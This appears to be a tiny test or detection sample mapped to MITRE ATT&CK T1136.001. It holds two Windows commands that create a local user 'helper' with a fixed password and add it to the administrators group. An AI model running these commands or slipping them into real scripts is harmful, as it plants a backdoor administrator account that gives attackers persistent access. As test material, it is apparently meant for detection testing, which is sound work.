@rem expect: opened-door | source: MITRE ATT&CK T1136.001
net user helper Passw0rd-look /add
net localgroup administrators helper /add
